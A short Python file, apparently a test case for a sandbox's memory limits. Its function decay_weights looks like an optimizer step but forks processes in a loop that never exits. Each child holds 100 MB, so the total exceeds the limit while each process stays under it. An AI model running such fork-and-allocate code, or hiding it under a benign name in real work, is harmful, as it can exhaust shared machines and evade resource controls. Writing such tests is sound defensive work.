"""Each process stays below the limit, all together do not.

Cell: decay_weights
Status: memory
"""

import os
import time


def decay_weights(parameters, lr, wd):
    for _ in range(20):
        if os.fork() == 0:
            hold = b"x" * (100 << 20)
            time.sleep(60)
    time.sleep(60)
